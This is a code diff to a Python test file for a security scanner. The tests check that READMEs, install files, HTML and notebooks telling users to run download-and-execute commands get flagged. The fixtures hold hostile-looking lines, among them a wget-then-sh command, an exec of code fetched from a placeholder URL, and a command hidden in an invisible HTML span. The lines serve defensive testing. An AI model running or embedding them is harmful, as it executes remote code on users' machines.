@@ -1,5 +1,6 @@
 from __future__ import annotations
 
+import json
 import re
 from collections.abc import Callable
 from contextlib import nullcontext
@@ -14,11 +15,11 @@ from support.scans import scan_text
 from support.work import count_work, find_growth_fault
 
 import modelaudit
-from modelaudit.formats.documents.markdown import reader as markdown_reader
 from modelaudit.formats.documents.scripts.docker_programs import find_python_programs
 from modelaudit.formats.documents.structured.tables import parse_table_settings
 from modelaudit.languages import run_files, text_programs
 from modelaudit.languages.document_programs import DOCUMENT_PROGRAMS, read_command_lines
+from modelaudit.languages.instructions import list_command_texts
 from modelaudit.languages.package_sources import LOCK_FILES, SCRIPT_SOURCES
 from modelaudit.languages.python.cells import split_cell
 from modelaudit.languages.shell.executed_files import find_executed_files
@@ -599,13 +600,61 @@ def test_command_that_fetches_and_runs_a_program_fails_the_scan_in_any_text_but_
     assert "shell/download-and-run" in rules
 
 
+_NOTEBOOK_WITH_PROSE = json.dumps(
+    {"cells": [{"cell_type": "markdown", "metadata": {}, "source": [f"Run:\n\n```\n{FETCH}\n```\n"]}],
+     "metadata": {"kernelspec": {"name": "python3", "language": "python"}}, "nbformat": 4, "nbformat_minor": 5}
+)  # fmt: skip
+
+
 @check_each(
     "name, text",
     [
-        ("README", f"Install\n\n{FETCH}\n"),
+        ("README.md", f"```shellscript\n{FETCH}\n```\n"),
+        ("README.md", f"```ksh\n[user@host ~]$ {FETCH}\n```\n"),
+        ("README.md", f"```bash\n(base) $ {FETCH}\n```\n"),
+        ("README.md", f"```\n\u276f {FETCH}\n```\n"),
+        ("README.md", f"<pre><code>{FETCH.replace('curl', 'curl <b>-f</b>')}</code></pre>\n"),
+        ("README.md", f"<pre>true<span style='display:none'>; {FETCH}</span></pre>\n"),
+        ("README.md", f"Run this in a terminal:\n\n{FETCH}\n"),
+        ("README.md", "```python\nimport requests\nexec(requests.get('https://e.invalid/x.py').text)\n```\n"),
+        ("README.md", f"```python\nimport os\nos.system('{FETCH}')\n```\n"),
+        ("README.rst", f"Install\n=======\n\n.. code-block:: bash\n\n   {FETCH}\n"),
+        ("README.txt", f"Install:\n\n  {FETCH}\n"),
+        ("INSTALL", f"{FETCH}\n"),
+        ("INSTALL.adoc", f"[source,bash]\n----\n{FETCH}\n----\n"),
+        ("notes.org", "#+begin_src sh\nwget -O x https://e.invalid/x.sh\nsh x\n#+end_src\n"),
+        ("index.html", f"<html><body><pre>{FETCH}</pre></body></html>"),
+        ("demo.ipynb", _NOTEBOOK_WITH_PROSE),
+    ],
+)
+def test_harmful_command_that_a_document_tells_users_to_run_is_reported_and_passes(
+    tmp_path: Path, name: str, text: str
+) -> None:
+    assert scan_text(tmp_path, name, text) == (0, {"shell/instruction"})
+
+
+@check_each(
+    "name, text",
+    [
+        ("README.md", f'```json\n{{"run": "{FETCH}"}}\n```\n'),
+        ("README.md", "    - `partition` reduces `GET` requests\n"),
+        ("README.md", "```python\nimport requests\nrequests.get('https://e.invalid/x.json').json()\n```\n"),
+        ("README.md", "curl is a program; wget is another | both fetch\n"),
+        ("README.rst", "Install\n=======\n\n   curl -O https://e.invalid/x.json\n"),
         ("notes.txt", f"{FETCH}\n"),
-        ("INSTALL", f"    {FETCH}\n"),
-        ("x.org", f"#+begin_src sh\n{FETCH}\n#+end_src\n"),
+    ],
+)
+def test_document_without_a_harmful_command_and_text_that_instructs_nobody_pass(
+    tmp_path: Path, name: str, text: str
+) -> None:
+    assert scan_text(tmp_path, name, text) == (0, set())
+
+
+@check_each(
+    "name, text",
+    [
+        ("notes.txt", f"{FETCH}\n"),
+        ("CHANGES", f"    {FETCH}\n"),
         ("unknown.list", f"# {FETCH}\n// {FETCH}\nmessage = Install it with {FETCH}\n"),
         ("unknown.list", "on_start = curl -s https://e.invalid/x.json -o x.json\n"),
         ("crontab.txt", "* * * * * /usr/bin/backup\n"),
@@ -685,7 +734,7 @@ def _read_table(text: str) -> object:
 
 
 def _read_markdown(text: str) -> object:
-    return list(markdown_reader._list_command_texts(text))
+    return list(list_command_texts(text))
 
 
 @check_each(
